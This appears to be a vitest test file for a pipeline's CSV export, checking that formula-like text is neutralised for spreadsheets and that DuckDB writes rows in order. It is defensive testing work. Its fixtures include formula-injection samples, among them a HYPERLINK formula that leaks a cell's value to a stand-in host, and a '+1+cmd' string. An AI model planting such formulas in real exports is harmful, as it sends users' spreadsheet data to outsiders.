import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { literal } from '../../pipeline/db/Database.js';
import { copyCsv } from '../../pipeline/db/csvCopy.js';
import { spreadsheetSafe, spreadsheetSafeSql } from '../../pipeline/shared/csv.js';
import { withDb, withTempDir } from '../helpers/withDb.js';

test('COPY to CSV neutralises formula-like text in every text column, in column order, and leaves numbers, dates and NULL as they are', async () => {
  await withDb(async (db) => {
    await withTempDir(async (dir) => {
      await db.run(`CREATE TABLE t AS SELECT * FROM (VALUES
        ('=HYPERLINK("http://x/?leak="&A1,"click")', -2.5, DATE '2026-01-31', '@SUM(1)'),
        ('plain', 3.0, NULL, NULL),
        (chr(9) || 'tab', -1.0, DATE '2026-02-01', '+1+cmd')) v(id, amount, day, note)`);
      const path = join(dir, 'out.csv');
      await copyCsv(db, 'SELECT * FROM t ORDER BY amount', path);
      expect(readFileSync(path, 'utf8').trim().split('\n')).toEqual([
        'id,amount,day,note',
        `"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",-2.5,2026-01-31,'@SUM(1)`,
        "'\ttab,-1.0,2026-02-01,'+1+cmd",
        'plain,3.0,,',
      ]);
      // A text column holding a semicolon is quoted throughout (a semicolon-locale spreadsheet splits cells there).
      await db.run(`CREATE TABLE s AS SELECT * FROM (VALUES ('a;=HYPERLINK("x")', 1), ('plain', 2)) v(note, n)`);
      await copyCsv(db, 'SELECT * FROM s ORDER BY n', path);
      expect(readFileSync(path, 'utf8').trim().split('\n')).toEqual(['"note",n', '"a;=HYPERLINK(""x"")",1', '"plain",2']);
      // The table itself is unchanged: machines read those values.
      expect(await db.value(`SELECT id FROM t WHERE amount = -2.5`)).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
    });
  });
});

test('the SQL rule prefixes exactly the text the JavaScript rule prefixes', async () => {
  const starts = ['=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", '"', ';', ',', 'a', '0', 'é', '€', '＝', '\u00a0', '\u0301', '😀'];
  const texts = ['', ...starts.flatMap((c) => [c, `${c}=1`, `x${c}`, `${c}${c}SUM(A1)`]), ' =1', '\n=1', 'é=1'];
  await withDb(async (db) => {
    const rows = await db.all<{ i: number; safe: string | null }>(
      `SELECT i, ${spreadsheetSafeSql('t')} AS safe FROM (VALUES ${texts.map((t, k) => `(${k + 1}, ${literal(t)})`).join(', ')}, (0, NULL)) v(i, t)`);
    const byIndex = new Map(rows.map((r) => [Number(r.i), r.safe]));
    expect(byIndex.get(0)).toBeNull();
    texts.forEach((t, k) => expect(byIndex.get(k + 1), JSON.stringify(t)).toBe(spreadsheetSafe(t)));
    expect(texts.filter((t) => spreadsheetSafe(t) !== t)).toHaveLength(6 * 3); // each of the six, alone, before "=1" and doubled
  });
});

test('the rule is written only for the text columns holding a formula-like value: the file is the one the rule on every text column writes', async () => {
  // The earlier writer: the rule's CASE on every text column, FORCE_QUOTE on those holding a semicolon.
  const everyColumn = async (db: Parameters<Parameters<typeof withDb>[0]>[0], query: string, path: string) => {
    const columns = await db.all<{ column_name: string; column_type: string }>(`DESCRIBE ${query}`);
    const text = columns.filter((c) => c.column_type === 'VARCHAR').map((c) => c.column_name);
    const quoted: string[] = [];
    for (const n of text) if (await db.value(`SELECT bool_or(contains("${n}", ';')) FROM (${query})`) === true) quoted.push(n);
    const select = columns.map((c) => (c.column_type === 'VARCHAR' ? `${spreadsheetSafeSql(`q."${c.column_name}"`)} AS "${c.column_name}"` : `q."${c.column_name}"`)).join(', ');
    await db.run(`COPY (SELECT ${select} FROM (${query}) q) TO ${literal(path)} (HEADER, DELIMITER ','${quoted.length ? `, FORCE_QUOTE (${quoted.map((n) => `"${n}"`).join(', ')})` : ''})`);
  };
  await withDb(async (db) => {
    await withTempDir(async (dir) => {
      // Line items of a European shop: ids, one of them formula-like far down, a note with a semicolon,
      // a segment that never starts like a formula, amounts with refunds (negative numbers are no text), NULLs.
      await db.run(`CREATE TABLE c AS SELECT 'C' || lpad(CAST(i AS VARCHAR), 6, '0') AS customer_id,
          CASE WHEN i % 7 = 0 THEN NULL WHEN i % 5 = 0 THEN 'champions' ELSE 'at_risk' END AS segment,
          CASE WHEN i % 3 = 0 THEN -1.5 * i ELSE 19.99 + i END AS amount,
          CASE WHEN i % 11 = 0 THEN 'Zahlung; offen' WHEN i % 13 = 0 THEN NULL ELSE 'ok' END AS note,
          CASE WHEN i % 2 = 0 THEN 'Müller' ELSE 'Ærø' END AS name
        FROM range(1, 5000) t(i)`);
      await db.run(`UPDATE c SET customer_id = '=HYPERLINK("http://x")' WHERE customer_id = 'C004321'`);
      await db.run(`UPDATE c SET name = '-Dupont' WHERE customer_id = 'C000002'`);
      for (const query of ['SELECT * FROM c ORDER BY customer_id', 'SELECT segment, amount FROM c ORDER BY amount, segment', 'SELECT * FROM c WHERE false']) {
        const fast = join(dir, 'fast.csv');
        const old = join(dir, 'old.csv');
        await copyCsv(db, query, fast);
        await everyColumn(db, query, old);
        expect(readFileSync(fast, 'utf8'), query).toBe(readFileSync(old, 'utf8'));
      }
      const lines = readFileSync(join(dir, 'fast.csv'), 'utf8');
      expect(lines).toBe('customer_id,segment,amount,note,name\n');
      await copyCsv(db, 'SELECT * FROM c ORDER BY customer_id', join(dir, 'all.csv'));
      const all = readFileSync(join(dir, 'all.csv'), 'utf8').split('\n');
      expect(all[0]).toBe('customer_id,segment,amount,"note",name');
      expect(all).toContain(`C000002,at_risk,21.99,"ok",'-Dupont`);
      // '=' sorts before 'C': the first row, made text; its other cells as any row's.
      expect(all[1]).toBe(`"'=HYPERLINK(""http://x"")",at_risk,4340.99,"ok",Ærø`);
    });
  });
});

test('a table of several row groups is written in its order, by one thread as its rows come, as DuckDB\'s own ordered COPY writes it: a stored table in its order, a sort in its', async () => {
  await withDb(async (db) => {
    await withTempDir(async (dir) => {
      // More than two row groups (122,880 rows each), stored in no order of any column: a scan DuckDB splits across its
      // two threads and must give back in the stored order. Ids, formula-like text far down (so the rule is written for
      // the column), text with commas, NULLs, dates.
      await db.run(`CREATE TABLE t AS SELECT 'C' || lpad(CAST(hash(i) % 1000003 AS VARCHAR), 7, '0') || '-' || i AS customer_id,
          i * 0.37 - 5000 AS amount, CASE WHEN i % 9 = 0 THEN NULL ELSE 'tier ' || (i % 5) || ', then more' END AS note,
          DATE '2024-01-01' + CAST(i % 700 AS INTEGER) AS day
        FROM range(300000) r(i)`);
      await db.run(`UPDATE t SET note = '=1+1' WHERE customer_id LIKE '%-123456'`);
      const copies: string[] = [];
      db.onQuery((sql) => { if (sql.startsWith('COPY')) copies.push(sql); });
      const plan = async (sql: string) => (await db.all<{ explain_value: string }>(`EXPLAIN ${sql}`)).map((r) => r.explain_value).join('\n');
      for (const [name, query, order] of [['stored', 'SELECT * FROM t', 'i'], ['sorted', 'SELECT * FROM t ORDER BY amount DESC', '-i']] as const) {
        const mine = join(dir, `${name}.csv`);
        await copyCsv(db, query, mine);
        const written = copies.at(-1)!;
        const text = readFileSync(mine, 'utf8');
        const lines = text.split('\n');
        expect(lines).toHaveLength(300002);
        // Every row in the order asked: the row numbers the ids end with, counted up (stored) or down (sorted).
        const numbers = lines.slice(1, -1).map((l) => Number(/^C\d{7}-(\d+),/.exec(l)![1]));
        expect(numbers, name).toEqual(Array.from({ length: 300000 }, (_, k) => (order === 'i' ? k : 299999 - k)));
        expect(text).toContain(`-123456,${(123456 * 0.37 - 5000).toFixed(2)},'=1+1,`);
        // The same bytes as DuckDB's own ordered COPY of the query (the formula-like cell made text as copyCsv makes it),
        // which buffers its batches to write them in order (BATCH_COPY_TO_FILE): copyCsv's COPY streams them instead.
        const theirs = join(dir, `${name}-duckdb.csv`);
        const own = `COPY (SELECT customer_id, amount, ${spreadsheetSafeSql('note')} AS note, day FROM (${query})) TO ${literal(theirs)} (HEADER, DELIMITER ',')`;
        expect(await plan(own), name).toMatch(/BATCH_COPY_TO_FILE/);
        await db.run(own);
        expect(text, name).toBe(readFileSync(theirs, 'utf8'));
        const streamed = await plan(written);
        expect(streamed, name).toMatch(/\bCOPY_TO_FILE\b/);
        expect(streamed, name).not.toMatch(/BATCH_COPY_TO_FILE/);
        // The rule is no join with its list of starts: DuckDB writes a COPY whose plan holds a join by every thread at
        // once, out of order (an IN of six values was one, and wrote this table in a different order at each write).
        expect(streamed, name).not.toMatch(/HASH_JOIN/); // a MARK join is one
      }
    });
  }, { threads: 2 });
});
